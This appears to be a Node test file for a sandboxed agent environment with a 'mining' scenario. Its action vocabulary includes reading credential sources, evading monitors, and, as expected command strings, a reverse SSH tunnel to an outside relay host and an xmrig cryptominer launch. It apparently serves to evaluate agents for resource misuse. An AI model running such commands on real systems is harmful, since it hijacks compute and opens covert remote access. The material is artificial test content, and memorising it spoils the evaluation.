import { test } from 'node:test';
import assert from 'node:assert/strict';
import { VERBS, VERB_INFO, buildActionTable, commandLine, findAction, pidOfGpu, targetsOf } from '../../env/sandbox/actions.js';
import { listScenarios, loadScenario } from '../../scenarios/loader.js';
import { FIXED } from './helpers.js';

const mining = loadScenario(FIXED);

test('the vocabulary has 21 verbs, each documented with a target kind', () => {
  assert.equal(VERBS.length, 21);
  assert.equal(new Set(VERBS).size, 21);
  for (const v of VERBS) assert.ok(VERB_INFO[v].help.length > 0, v);
});

test('action i is the i-th (verb, target) in VERBS order, and its label is its command line', () => {
  const table = buildActionTable(mining);
  let i = 0;
  for (const verb of VERBS) {
    for (const target of targetsOf(verb, mining.cluster.gpus.length)) {
      const a = table[i]!;
      assert.equal(a.index, i);
      assert.equal(a.verb, verb);
      assert.equal(a.target, target);
      assert.equal(a.label, commandLine(verb, target));
      assert.equal(findAction(table, verb, target), i);
      i++;
    }
  }
  assert.equal(table.length, i);
  assert.equal(table.length, 49, '8 GPUs: 17 single actions + 3 GPU verbs x 8 + 4 hosts + 2 x 2 credential sources (list, read) + 3 monitors - 3 counted once');
});

test('labels are unique, so a command line names exactly one action', () => {
  const labels = buildActionTable(mining).map((a) => a.label);
  assert.equal(new Set(labels).size, labels.length);
});

test('every shipped scenario has the same table (policies transfer between scenarios)', () => {
  const ref = JSON.stringify(buildActionTable(loadScenario('mining')));
  for (const name of listScenarios()) assert.equal(JSON.stringify(buildActionTable(loadScenario(name))), ref, name);
});

test('command lines look like the issue says', () => {
  const t = buildActionTable(mining);
  const label = (verb: (typeof VERBS)[number], target?: number | string) => t[findAction(t, verb, target as never)]!.label;
  assert.equal(label('nvidia_smi'), 'nvidia-smi');
  assert.equal(label('run_job', 3), 'python train.py --gpu 3');
  assert.equal(label('ssh_tunnel'), 'ssh -fNR 2222:localhost:22 relay@203.0.113.7');
  assert.equal(label('start_miner', 5), './xmrig -o pool.example:3333 --cuda-devices 5');
  assert.equal(label('kill_job', 0), `kill ${pidOfGpu(0)}`);
  assert.equal(label('kill_job', 0), 'kill 4242');
  assert.equal(label('rent_gpu'), 'curl https://market.example/rent');
  assert.equal(findAction(t, 'run_job', 99), -1);
});
